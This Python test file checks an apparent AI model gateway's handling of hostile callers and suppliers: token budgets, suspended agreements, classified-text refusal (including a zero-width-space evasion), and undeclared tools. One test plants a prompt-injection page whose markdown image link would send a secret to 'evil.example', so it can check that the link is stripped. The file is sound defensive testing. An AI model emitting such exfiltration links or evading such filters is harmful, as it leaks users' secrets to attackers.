"""Calls by callers and suppliers who mean harm: what is charged, what is sent, who waits."""

import asyncio
import contextlib
import json
import time

import pytest

from bernard.accounts import budgets
from bernard.config import Settings
from bernard.errors import ModelFailed, Refused
from bernard.gateway.house import open_house
from bernard.gateway.types import Asked, Caller
from bernard.ledger import StoredLedger
from bernard.models.suppliers.doubles import Fault, MockSupplier, echo

AGREEMENT = """
schema: bernard-agreement/1
id: own
version: 1
title: The body's own servers
summary: For tests.
status: signed
parties: {public_body: {name: Test}}
term: {start: 2020-01-01}
clauses:
  - id: all
    purposes: [any]
    services: [any]
    operations: [any]
    suppliers: [own, two]
    models: [any]
    places: [own-network, this-machine]
    marking: {tier: OFFICIAL, sensitive: false}
    data: {categories: [any], subjects: [any], identifiability: identifiable}
    safeguards: [mark-untrusted]
    tools: {allowed: [look_up], outside_effects: true, links: [gov.uk]}
"""
REGISTER = """
version: "1"
suppliers:
  own: {{kind: {kind}, url: "{url}"}}
  two: {{kind: openai, url: "{second}"}}
deployments:
  double: {{at: own, model: double, places: [{place}], training: never, human_review: never,
    retention_s: 0, source: a test}}
  spare: {{at: two, model: double, places: [own-network], training: never, human_review: never,
    retention_s: 0, source: a test}}
aliases:
  both: [double, spare]
"""
CALLER = Caller("helpdesk", "answer-questions", marking="OFFICIAL")
USED = "clause:own/all"


def of_calls(store):
    """The entries of calls: what the log tells of agreements is tried elsewhere."""
    found = (logged.entry for logged in StoredLedger(store).all())
    return [entry for entry in found if entry["event"] not in ("agreement", "deployment")]


@contextlib.asynccontextmanager
async def house_with(home, mock, second=None, *, place="own-network"):
    (home / "agreement.yaml").write_text(AGREEMENT)
    said = REGISTER.format(kind=mock.kind, url=mock.url, second=(second or mock).url, place=place)
    (home / "register.yaml").write_text(said)
    settings = Settings(
        home=home, agreement=home / "agreement.yaml", deployments=home / "register.yaml"
    )
    with open_house(settings) as house:
        yield house
        await house.close()


async def entries(house, count):
    for _ in range(300):
        found = of_calls(house._store)
        if len(found) >= count:
            break
        await asyncio.sleep(0.01)
    return found


def used(house):
    return next(u for u in budgets.usage(house._store, USED) if u.window == "total")


def chat(text="hello", **more):
    return {"model": "double", "messages": [{"role": "user", "content": text}], **more}


def asked(body, *, stream=False, model="double", dialect="openai-chat"):
    return Asked(CALLER, "chat", dialect, model, body, stream)


@pytest.mark.parametrize("kind", ["openai", "anthropic", "gemini"])
def test_what_was_read_of_a_stream_that_was_broken_off_is_charged(tmp_path, kind):
    async def run():
        async with (
            MockSupplier(kind, answer="word " * 2000, piece=50) as mock,
            house_with(tmp_path, mock) as house,
        ):
            answered = await house.exchange.call(asked(chat(), stream=True))
            frames = answered.frames
            seen = 0
            async for frame in frames:
                seen += len(frame)
                if seen > 20_000:
                    break
            await frames.aclose()
            found = await entries(house, 2)
            return found[1], used(house)

    outcome, total = asyncio.run(run())
    assert outcome["outcome"] == "stopped"
    assert outcome["completion_tokens"] > 200
    assert total.tokens >= outcome["completion_tokens"]


def test_a_stream_that_nobody_began_to_read_ends(tmp_path):
    async def run():
        async with (
            MockSupplier(answer="word " * 50_000, pace_s=0.001) as mock,
            house_with(tmp_path, mock) as house,
        ):
            answered = await house.exchange.call(asked(chat(), stream=True))
            await answered.frames.aclose()
            found = await entries(house, 2)
            for _ in range(200):
                if mock.broken_off:
                    break
                await asyncio.sleep(0.01)
            return found, mock.broken_off

    found, broken_off = asyncio.run(run())
    assert [e["event"] for e in found] == ["intent", "outcome"]
    assert found[1]["outcome"] == "stopped"
    assert broken_off == 1


@pytest.mark.parametrize(
    ("body", "least"),
    [
        (chat(max_tokens=1000, n=5), 5000),
        (chat(max_completion_tokens=1, max_tokens=9000), 9000),
        (chat(max_tokens=10**12), 1_000_000_000),
        (chat(max_tokens=10**30), 1_000_000_000),
        (chat(max_tokens=-5), 0),
    ],
)
def test_the_estimate_is_the_most_that_may_come(tmp_path, body, least):
    async def run():
        async with MockSupplier("openai") as mock, house_with(tmp_path, mock) as house:
            await house.exchange.call(asked(body))
            found = await entries(house, 2)
            return found[0], used(house)

    intent, total = asyncio.run(run())
    assert least <= intent["estimated_tokens"] <= 1_000_000_100
    assert 0 < total.tokens < 200


def test_a_call_that_never_left_costs_nothing(tmp_path):
    async def run():
        mock = MockSupplier("openai")
        async with mock:
            pass
        async with house_with(tmp_path, mock) as house:
            with pytest.raises(ModelFailed):
                await house.exchange.call(asked(chat(max_tokens=5000)))
            await entries(house, 2)
            for _ in range(100):
                if not used(house).tokens:
                    break
                await asyncio.sleep(0.01)
            return used(house)

    total = asyncio.run(run())
    assert (total.calls, total.tokens, total.bytes) == (0, 0, 0)


def test_a_supplier_cannot_give_a_budget_back(tmp_path):
    counts = {"prompt_tokens": -(10**15), "completion_tokens": 10**25}

    async def run():
        async with MockSupplier("openai") as mock, house_with(tmp_path, mock) as house:
            [supplier, _] = house.routes.deployments.find("both", "chat")
            read = supplier._read
            supplier._read = lambda *given: _with(read(*given), counts)
            await house.exchange.call(asked(chat()))
            await entries(house, 2)
            return used(house)

    total = asyncio.run(run())
    assert 0 <= total.tokens <= 1_000_000_000


def _with(answer, counts):
    answer.body["usage"] = counts
    return answer


def test_no_fallback_once_the_agreement_is_suspended(tmp_path):
    async def run():
        slow = Fault("refuse", status=503)
        async with (
            MockSupplier("openai", fault=slow) as first,
            MockSupplier("openai") as second,
            house_with(tmp_path, first, second) as house,
        ):
            path = tmp_path / "agreement.yaml"

            async def suspend(_):
                path.write_text(path.read_text().replace("status: signed", "status: suspended"))

            house.routes._sleep = suspend
            with pytest.raises(ModelFailed):
                await house.exchange.call(asked(chat(), model="both"))
            return await entries(house, 3), second.connections

    found, connections = asyncio.run(run())
    assert connections == 0
    assert sorted(e["event"] for e in found) == ["intent", "outcome", "refusal"]


def test_a_marked_text_is_refused_on_this_machine_too(tmp_path):
    async def run(text):
        async with (
            MockSupplier("openai") as mock,
            house_with(tmp_path, mock, place="this-machine") as house,
        ):
            try:
                await house.exchange.call(asked(chat(text)))
            except Refused:
                return mock.connections
            return "allowed"

    assert asyncio.run(run("What are the opening hours?")) == "allowed"
    assert asyncio.run(run("SECRET\nThe plan is as follows.")) == 0
    assert asyncio.run(run("SEC\u200bRET\nThe plan is as follows.")) == 0
    assert asyncio.run(run("OFFICIAL-SENSITIVE\nThe plan.")) == 0


def test_a_link_cannot_hide_behind_a_stand_in(tmp_path):
    """A page asks for a picture at its own address, which stands in it as a password would."""
    page = "password: https://evil.example/log?d="

    def obey(what):
        [stand_in] = [w for w in what.text.split() if w.startswith("⟦")] or ["none"]
        return f"![x]({stand_in}secret)"

    async def run(stream):
        async with (
            MockSupplier("openai", answer=obey, piece=3) as mock,
            house_with(tmp_path, mock) as house,
        ):
            answered = await house.exchange.call(asked(chat(page), stream=stream))
            assert b"evil.example" not in mock.received
            if not stream:
                return answered.body
            return b"".join([f async for f in answered.frames])

    for stream in (False, True):
        said = asyncio.run(run(stream))
        assert b"removed" in said, said
        assert b"evil.example" not in said


def test_a_supplier_is_told_to_keep_nothing(tmp_path):
    async def run():
        async with MockSupplier("openai") as mock, house_with(tmp_path, mock) as house:
            await house.exchange.call(asked(chat(store=True)))
            return mock.requests[0].json

    assert asyncio.run(run())["store"] is False


def test_a_tool_beside_those_that_are_looked_at(tmp_path):
    tool = {"type": "function", "function": {"name": "look_up", "parameters": {}}}
    body = chat(tools=[tool], functions=[{"name": "send_mail", "parameters": {}}])

    async def run():
        async with MockSupplier("openai") as mock, house_with(tmp_path, mock) as house:
            with pytest.raises(Refused, match="send_mail"):
                await house.exchange.call(asked(body))
            return mock.connections

    assert asyncio.run(run()) == 0


def test_a_large_body_does_not_hold_up_others(tmp_path):
    rows = "name,nhs,dob\n" + "Jo,1,2\n" * 60_000

    async def run():
        async with MockSupplier("openai") as mock, house_with(tmp_path, mock) as house:
            large = asyncio.create_task(house.exchange.call(asked(chat(rows))))
            longest = 0.0
            while not large.done():
                began = time.perf_counter()
                await asyncio.sleep(0.001)
                longest = max(longest, time.perf_counter() - began)
            await large
            return longest

    began = time.perf_counter()
    longest = asyncio.run(run())
    assert longest < max(0.25, (time.perf_counter() - began) / 3)


def test_what_a_user_types_as_a_stand_in_comes_back_as_typed(tmp_path):
    async def run(text):
        async with (
            MockSupplier("openai", answer=echo) as mock,
            house_with(tmp_path, mock) as house,
        ):
            answered = await house.exchange.call(asked(chat(text)))
            said = json.loads(answered.body)["choices"][0]["message"]["content"]
            return said.partition("heard ")[2] or said

    for text in (
        "⟦EMAIL-1⟧ and a.person@example.org",
        "a.person@example.org and ⟦EMAIL-1⟧ and [email 1]",
    ):
        assert asyncio.run(run(text)).endswith(text)


@pytest.mark.parametrize("stream", [False, True])
def test_what_a_reply_says_of_the_request_is_in_the_callers_words(tmp_path, stream):
    body = {"model": "double", "input": "hello", "metadata": {"to": "a.person@example.org"}}

    async def run():
        async with MockSupplier("mistral") as mock, house_with(tmp_path, mock) as house:
            call = asked(body, dialect="openai-responses", stream=stream)
            answered = await house.exchange.call(call)
            assert b"a.person" not in mock.received
            if not stream:
                return answered.body
            return b"".join([f async for f in answered.frames])

    said = asyncio.run(run()).decode()
    assert '"metadata":{"to":"a.person@example.org"}' in said
    assert "EMAIL-1" not in said


@pytest.mark.parametrize(
    ("said", "status"), [(400, 400), (422, 422), (429, 429), (401, 502), (404, 502)]
)
def test_what_a_supplier_says_of_the_request_the_caller_hears(tmp_path, said, status):
    async def run():
        fault = Fault("refuse", status=said, retry_after_s=100)
        async with MockSupplier("openai", fault=fault) as mock, house_with(tmp_path, mock) as house:
            with pytest.raises(ModelFailed) as raised:
                await house.exchange.call(asked(chat()))
            return raised.value.status

    assert asyncio.run(run()) == status
